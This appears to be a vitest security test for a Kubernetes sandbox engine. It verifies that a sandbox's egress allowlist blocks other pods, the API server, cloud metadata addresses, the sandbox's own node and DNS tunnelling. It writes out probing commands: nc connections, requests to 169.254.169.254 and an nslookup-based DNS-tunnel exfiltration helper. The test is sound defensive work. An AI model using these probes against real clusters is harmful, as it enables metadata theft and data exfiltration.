// Attacks on sandfleet's Kubernetes engine, on the parity suite's cluster: code in a sandbox with an
// egress allowlist reaching what its list does not name: another pod, the API server, a link-local
// (metadata) address, a DNS server for a tunnel, and its own node even when the list names it.
import { spawn, type ChildProcess } from "node:child_process";
import { createSocket, type Socket as UdpSocket } from "node:dgram";
import { createServer, type Server } from "node:http";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Sandbox } from "../../provider/client/sandbox.ts";
import { cleanupBackend } from "../support/backends.ts";
import { uniqueApp } from "../support/engine.ts";
import { kubectl } from "../support/kubectl.ts";
import { listenerPod } from "../support/listener-pod.ts";
import { until } from "../support/until.ts";
import { run, engine, sandfleet, suffix, placeOf, reaches } from "../support/kubernetes-attack.ts";

describe("an egress allowlist on Kubernetes, attacked from inside its sandbox", () => {
  const app = uniqueApp("k8s-egress-attack");
  const common = { app, image: "sandfleet/busybox", user: "1000:1000", memoryMiB: 32, timeoutMs: 15 * 60_000 };
  const nodes = ["sandfleet-node-1", "sandfleet-node-2"];
  const tag = suffix();
  // Listener pods of the test's own (no sandfleet policy selects them): one listed, one not, on each node.
  const pods = { listed: {} as Record<string, string>, other: {} as Record<string, string> };
  const podNames = nodes.flatMap((_, i) => [
    `sf-attack-listed-${tag}-${String(i)}`,
    `sf-attack-other-${tag}-${String(i)}`,
  ]);
  // A link-local address of the host's own, on a link the test makes: a metadata service stands in there.
  const dummy = `sfeg${tag.slice(0, 6)}`;
  const linkLocal = `169.254.77.${String(10 + Math.floor(Math.random() * 200))}`;
  const port = 20_000 + Math.floor(Math.random() * 10_000);
  const arrivals: string[] = [];
  let web: Server | undefined;
  let dns: UdpSocket | undefined;
  const listeners: ChildProcess[] = [];
  let attacker: Sandbox, control: Sandbox, wide: Sandbox;

  const nodeOf = async (sandbox: Sandbox) => (await placeOf(sandbox.id)).node;
  const onItsNode = async (sandbox: Sandbox, which: "listed" | "other") =>
    `http://${pods[which][await nodeOf(sandbox)] ?? ""}:8080/`;
  /** Sends a DNS query for a name carrying data to `server`:53, as a tunnel would. */
  const tunnel = (from: Sandbox, server: string, data: string) =>
    from.run(["sh", "-c", `timeout 3 nslookup ${data}.tunnel.example ${server} >/dev/null 2>&1; true`]);
  /** Whether a TCP connection from inside the sandbox opens within 3 s. */
  const connects = async (from: Sandbox, host: string, to: number) => {
    const result = await from.run([
      "sh",
      "-c",
      `timeout 3 nc ${host} ${String(to)} </dev/null && echo OPEN || echo NO`,
    ]);
    return result.stdout.trim() === "OPEN";
  };

  beforeAll(async () => {
    // A veth pair whose ends both stay on the host (this kernel has no dummy links): the address is the host's.
    await run("ip", ["link", "add", dummy, "type", "veth", "peer", "name", `${dummy}p`]);
    await run("ip", ["addr", "add", `${linkLocal}/32`, "dev", dummy]);
    await run("ip", ["link", "set", `${dummy}p`, "up"]);
    await run("ip", ["link", "set", dummy, "up"]);
    web = createServer((_, res) => res.end("metadata"));
    await new Promise<void>((resolve) => web?.listen(80, linkLocal, resolve));
    dns = createSocket("udp4", (message) => arrivals.push(message.toString("latin1")));
    await new Promise<void>((resolve) => dns?.bind(53, linkLocal, resolve));
    control = await sandfleet.sandboxes.create({ ...common, name: "control", egress: { allow: [] } });
    const image = (await kubectl(["get", "pod", control.id, "-o", "jsonpath={.spec.containers[0].image}"])).trim();
    await Promise.all(
      nodes.map(async (node, i) => {
        pods.listed[node] = await listenerPod(podNames[2 * i] ?? "", node, image);
        pods.other[node] = await listenerPod(podNames[2 * i + 1] ?? "", node, image);
      }),
    );
    for (const node of nodes) {
      const child = spawn("ip", [
        "netns",
        "exec",
        `sfk-n${node.replace(/^sandfleet-node-/, "")}`,
        process.execPath,
        "-e",
        `require('node:http').createServer((q, r) => r.end('node')).listen(${String(port)}, '0.0.0.0', () => console.log('up'))`,
      ]);
      listeners.push(child);
      await new Promise<void>((resolve) => {
        child.stdout.once("data", () => {
          resolve();
        });
      });
    }
    attacker = await sandfleet.sandboxes.create({
      ...common,
      name: "attacker",
      egress: { allow: Object.values(pods.listed) },
    });
    // What the attacker is refused answers a sandbox whose list names it: its refusals are the list's.
    await control.setEgress({ allow: [...Object.values(pods.other), `${linkLocal}/32`, "10.250.0.1"] });
    // Its own node and the host, listed: Docker never lets a sandbox reach its engine's host but for DNS.
    wide = await sandfleet.sandboxes.create({ ...common, name: "wide", egress: { allow: ["10.250.0.0/24"] } });
  });
  afterAll(async () => {
    for (const listener of listeners) listener.kill();
    web?.close();
    dns?.close();
    await run("ip", ["link", "del", dummy]).catch(() => undefined);
    await kubectl(["delete", "pod", "--ignore-not-found", "--wait=false", ...podNames]);
    await cleanupBackend(engine, app);
  });

  it("reaches its listed pod, and no other pod, the API server, a link-local address or a DNS server", async () => {
    await until(
      "the listed pod answers",
      async () => await reaches(attacker, await onItsNode(attacker, "listed")),
      60_000,
    );
    await until(
      "the control reaches the other pod",
      async () => reaches(control, await onItsNode(control, "other")),
      60_000,
    );
    expect(await reaches(control, `http://${linkLocal}/`)).toBe(true);
    expect(await connects(control, "10.250.0.1", 16443)).toBe(true);
    await tunnel(control, linkLocal, "control");
    await until("the control's query arrives", () => Promise.resolve(arrivals.some((a) => a.includes("control"))));

    const reached = [];
    if (await reaches(attacker, await onItsNode(attacker, "other"))) reached.push("a pod off its list");
    if (await reaches(attacker, `http://${linkLocal}/`)) reached.push("a link-local address (metadata)");
    if (await reaches(attacker, "http://169.254.169.254/")) reached.push("169.254.169.254");
    if (await connects(attacker, "10.250.0.1", 16443)) reached.push("the API server");
    if (await connects(attacker, "10.96.0.1", 443)) reached.push("the API server's service address");
    if (await reaches(attacker, `http://${(await placeOf(attacker.id)).hostIP}:${String(port)}/`))
      reached.push("its node");
    await tunnel(attacker, linkLocal, "attacker");
    const resolver = (
      await attacker.run(["sh", "-c", "awk '/^nameserver/ { print $2; exit }' /etc/resolv.conf"])
    ).stdout.trim();
    if (resolver) await tunnel(attacker, resolver, "attacker");
    // The control's later query shows the listener still hears: the attacker's, sent before it, never came.
    await tunnel(control, linkLocal, "after");
    await until("the control's second query arrives", () => Promise.resolve(arrivals.some((a) => a.includes("after"))));
    if (arrivals.some((a) => a.includes("attacker"))) reached.push("a DNS server (a tunnel's query arrived)");
    expect(reached).toEqual([]);
  });

  it("never reaches its own node, even with the node's address on its list", async () => {
    const place = await placeOf(wide.id);
    // The listener answers on the node's address (the host reaches it): a "no" below is the node's rules.
    expect(await (await fetch(`http://${place.hostIP}:${String(port)}/`)).text()).toBe("node");
    const gateway = place.podIP.replace(/\.\d+$/, ".1");
    await until("the listed host answers", () => connects(wide, "10.250.0.1", 16443), 60_000);
    expect(await reaches(wide, `http://${place.hostIP}:${String(port)}/`)).toBe(false);
    expect(await reaches(wide, `http://${gateway}:${String(port)}/`)).toBe(false);
  });
});
